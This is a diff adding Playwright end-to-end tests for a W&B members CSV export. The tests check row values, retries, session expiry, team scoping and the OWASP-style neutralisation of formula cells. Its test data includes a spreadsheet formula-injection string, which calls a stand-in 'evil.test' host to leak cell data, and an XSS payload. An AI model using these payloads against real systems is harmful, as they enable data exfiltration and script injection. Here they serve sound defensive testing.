@@ -1,0 +1,200 @@
+import { readFile } from 'node:fs/promises';
+import type { Download, Page } from '@playwright/test';
+import Papa from 'papaparse';
+import type { Seed } from '../simulator/seed';
+import { expect, test, type WandbPage } from './fixtures';
+
+const HEADER = [
+  'username',
+  'name',
+  'email',
+  'org_role',
+  'models_seat',
+  'weave_access',
+  'status',
+  'account_type',
+  'teams',
+  'last_active',
+  'invited_at',
+];
+
+/** The OWASP rule the export applies to every text cell. */
+const neutralised = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);
+const iso = (value: string | null | undefined) =>
+  value ? new Date(value).toISOString().replace('.000Z', 'Z') : '';
+
+/** What the export must contain for a simulator state, row for row (members by username, invites by email+team). */
+function expectedRows(state: Seed, options: { orgFields: boolean }): Map<string, Record<string, string>> {
+  const rows = new Map<string, Record<string, string>>();
+  for (const member of state.members) {
+    const teams = state.teams
+      .flatMap((team) =>
+        team.members.filter((m) => m.username === member.username).map((m) => `${team.name}:${m.role}`),
+      )
+      .sort()
+      .join('; ');
+    rows.set(member.username, {
+      username: member.username,
+      name: neutralised(member.name),
+      email: member.email,
+      org_role: options.orgFields ? member.orgRole : '',
+      models_seat: options.orgFields ? member.modelsSeat : '',
+      weave_access: options.orgFields ? member.weaveAccess : '',
+      status: options.orgFields ? (member.status ?? 'active') : 'active',
+      account_type: member.accountType,
+      teams,
+      last_active: options.orgFields ? iso(member.lastLoginAt) : '',
+      invited_at: '',
+    });
+  }
+  for (const invite of state.invites) {
+    rows.set(`${invite.email} ${invite.team}`, {
+      username: '',
+      name: '',
+      email: invite.email,
+      org_role: '',
+      models_seat: '',
+      weave_access: '',
+      status: 'invite-pending',
+      account_type: 'user',
+      teams: `${invite.team}:${invite.role}`,
+      last_active: '',
+      invited_at: options.orgFields ? iso(invite.createdAt) : '',
+    });
+  }
+  return rows;
+}
+
+async function parseCsvDownload(
+  download: Download,
+): Promise<{ text: string; header: string[]; rows: Record<string, string>[] }> {
+  const text = await readFile((await download.path())!, 'utf8');
+  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
+  expect(parsed.errors).toEqual([]);
+  const [header, ...records] = parsed.data;
+  return {
+    text,
+    header: header!,
+    rows: records.map((record) => Object.fromEntries(header!.map((name, i) => [name, record[i] ?? '']))),
+  };
+}
+
+function keyOf(row: Record<string, string>): string {
+  return row.status === 'invite-pending' ? `${row.email} ${row.teams?.split(':')[0]}` : row.username!;
+}
+
+async function openExport(wandb: WandbPage) {
+  await wandb.bar.getByRole('button', { name: 'Export members' }).click();
+  const dialog = wandb.page.getByRole('dialog', { name: 'Export members' });
+  await expect(dialog).toBeVisible();
+  await expect(dialog.getByRole('button', { name: 'Export', exact: true })).toBeEnabled({ timeout: 30_000 });
+  return dialog;
+}
+
+async function exportCsv(page: Page, dialog: ReturnType<Page['getByRole']>): Promise<Download> {
+  const downloadPromise = page.waitForEvent('download');
+  await dialog.getByRole('button', { name: 'Export', exact: true }).click();
+  return downloadPromise;
+}
+
+test('exports every member and pending invite exactly once, with the right values, Excel-safe', async ({
+  wandb,
+  sim,
+}) => {
+  await wandb.signIn(sim.sim.admin);
+  const dialog = await openExport(wandb);
+  const download = await exportCsv(wandb.page, dialog);
+  expect(download.suggestedFilename()).toMatch(/^wandb-acme-members-\d{4}-\d{2}-\d{2}\.csv$/);
+
+  const { text, header, rows } = await parseCsvDownload(download);
+  expect(text.startsWith('\uFEFF')).toBe(true);
+  expect(header).toEqual(HEADER);
+  const expected = expectedRows(sim.state(), { orgFields: true });
+  expect(rows).toHaveLength(expected.size);
+  const seen = new Set<string>();
+  for (const row of rows) {
+    const key = keyOf(row);
+    expect(seen.has(key), `${key} appears once`).toBe(false);
+    seen.add(key);
+    expect(row, key).toEqual(expected.get(key));
+  }
+  // The hostile names of the default seed arrive neutralised and otherwise unchanged.
+  const names = rows.map((row) => row.name);
+  expect(names).toContain(`'=HYPERLINK("https://evil.test/?x="&A1,"Click me")`);
+  expect(names).toContain("'+33 Pat Plus");
+  expect(names).toContain('Lina\nNewline');
+  expect(names).toContain('<img src=x onerror=alert(1)>');
+});
+
+test.describe('on a W&B server without the third-party-observed fields', () => {
+  test.use({ simOptions: { strictVerified: true } });
+
+  test('the per-team export has the same people, teams and team roles; org-only fields are left empty', async ({
+    wandb,
+    sim,
+  }) => {
+    await wandb.signIn(sim.sim.admin);
+    const dialog = await openExport(wandb);
+    await expect(dialog.getByRole('note')).toContainText(
+      'teams visible to you; members outside them are not listed',
+    );
+    const { rows } = await parseCsvDownload(await exportCsv(wandb.page, dialog));
+    const expected = expectedRows(sim.state(), { orgFields: false });
+    expect(new Map(rows.map((row) => [keyOf(row), row]))).toEqual(expected);
+  });
+});
+
+test('faults while loading are retried and give the same file', async ({ wandb, sim }) => {
+  await wandb.signIn(sim.sim.admin);
+  const clean = await parseCsvDownload(await exportCsv(wandb.page, await openExport(wandb)));
+  await wandb.page
+    .getByRole('dialog', { name: 'Export members' })
+    .getByRole('button', { name: 'Close' })
+    .click();
+
+  sim.configure({ rateLimitNext: 2, retryAfterSeconds: 1, errorNext: 2, dropNext: 1 });
+  const faulty = await parseCsvDownload(await exportCsv(wandb.page, await openExport(wandb)));
+  expect(faulty.rows).toEqual(clean.rows);
+  const faults = sim
+    .graphqlRequests()
+    .map((request) => request.fault)
+    .filter(Boolean);
+  expect(faults.sort()).toEqual(['dropped', 'rate-limited', 'rate-limited', 'server-error', 'server-error']);
+});
+
+test('session expiry while loading says "sign in again" and saves nothing', async ({ wandb, sim }) => {
+  await wandb.signIn(sim.sim.admin);
+  await expect(wandb.figures).toBeVisible();
+  let downloads = 0;
+  wandb.page.on('download', () => downloads++);
+  sim.configure({ expireSessionAfter: 1 });
+  await wandb.bar.getByRole('button', { name: 'Export members' }).click();
+  const dialog = wandb.page.getByRole('dialog', { name: 'Export members' });
+  await expect(dialog.getByRole('alert')).toContainText('Sign in to W&B again');
+  await expect(dialog.getByRole('button', { name: 'Export', exact: true })).toBeDisabled();
+  expect(downloads).toBe(0);
+});
+
+test('from a team settings page the export is scoped to that team', async ({ wandb, sim }) => {
+  await wandb.signIn(sim.sim.admin, '/vision/settings');
+  const dialog = await openExport(wandb);
+  await expect(dialog.getByText('Team vision')).toBeVisible();
+  const download = await exportCsv(wandb.page, dialog);
+  expect(download.suggestedFilename()).toMatch(/^wandb-acme-vision-members-\d{4}-\d{2}-\d{2}\.csv$/);
+  const { rows } = await parseCsvDownload(download);
+  const state = sim.state();
+  const vision = state.teams.find((team) => team.name === 'vision')!;
+  const members = rows.filter((row) => row.status !== 'invite-pending');
+  expect(members.map((row) => row.username).sort()).toEqual(vision.members.map((m) => m.username).sort());
+  for (const row of members) {
+    const role = vision.members.find((m) => m.username === row.username)!.role;
+    expect(row.teams).toBe(`vision:${role}`);
+  }
+  const invites = rows.filter((row) => row.status === 'invite-pending').map((row) => row.email);
+  expect(invites.sort()).toEqual(
+    state.invites
+      .filter((i) => i.team === 'vision')
+      .map((i) => i.email)
+      .sort(),
+  );
+});
